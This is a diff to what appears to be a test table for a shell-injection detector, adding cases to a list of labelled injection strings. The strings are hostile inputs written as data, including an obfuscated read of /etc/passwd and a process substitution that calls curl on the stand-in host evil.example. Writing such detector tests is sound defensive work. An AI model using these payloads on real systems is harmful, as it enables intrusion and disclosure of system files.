@@ -41,6 +41,8 @@ describeDetector('detectShell', detectShell, {
     ['file.txt|reg query HKLM', 'appended'],
     ['user@x.example;df #', 'appended'],
     ['(ls -la)', 'appended'],
+    [';cat$u /etc$u/passwd$u', 'argument'],
+    ['x$($(echo cat) *.txt >&2)', 'payload'],
     ['a.txt<(curl evil.example)', 'appended'],
     ['uname -a>/tmp/x', 'payload'],
     ['Start-Sleep -Seconds 5', 'payload'],
